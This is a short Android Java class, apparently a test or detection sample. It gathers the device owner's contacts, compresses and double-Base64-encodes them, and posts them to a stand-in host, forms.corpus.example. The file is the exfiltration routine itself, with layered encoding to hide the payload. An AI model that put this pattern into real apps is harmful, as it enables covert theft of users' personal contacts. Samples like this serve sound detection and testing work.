package org.corpus;

import android.util.Base64;
import java.io.ByteArrayOutputStream;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Three layers. */
public class TwiceDeflated extends Screen {
    @Override
    protected void act() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bytes, new Deflater(9, true))) {
            out.write(Net.utf8(String.join("\n", Owner.contacts(this))));
        }
        byte[] once = Base64.encode(bytes.toByteArray(), Base64.NO_WRAP);
        Net.post(
                "http://forms.corpus.example/twice",
                "text/plain",
                Base64.encode(once, Base64.NO_WRAP));
    }
}
